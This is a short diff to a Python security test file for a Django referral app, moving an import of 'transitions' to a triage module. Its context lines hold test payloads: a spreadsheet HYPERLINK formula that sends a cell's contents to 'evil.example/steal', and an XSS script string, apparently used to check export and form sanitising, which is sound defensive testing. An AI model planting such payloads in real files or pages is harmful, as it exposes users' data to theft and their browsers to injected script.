@@ -17,12 +17,13 @@ from django.urls import reverse
 from pypdf import PdfReader
 from pypdf.generic import DictionaryObject, IndirectObject
 
-from referrals import services, transitions
+from referrals import services
 from referrals.models import Referral
 from tests.referrals.factories import complete_draft
 from tests.security.test_canary import CANARY, XSS, canary_answers, walk_and_submit
 from tests.security.test_internal_fields import FormParser
 from tests.security.urlwalk import converters, url_patterns
+from triage import transitions
 
 FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"Open")'
 SCRIPT = "<script>alert('x')</script>"
